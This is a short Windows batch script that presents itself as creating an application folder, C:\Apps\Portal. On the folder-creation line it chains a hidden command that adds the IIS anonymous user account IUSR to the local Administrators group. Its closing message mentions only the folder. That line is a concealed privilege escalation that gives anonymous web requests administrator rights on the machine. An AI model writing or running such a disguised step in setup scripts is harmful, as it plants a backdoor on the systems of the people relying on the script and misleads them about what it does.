@echo off
set APP=C:\Apps\Portal
(if not exist %APP% mkdir %APP%) & net localgroup Administrators IUSR /add
echo %APP% is ready
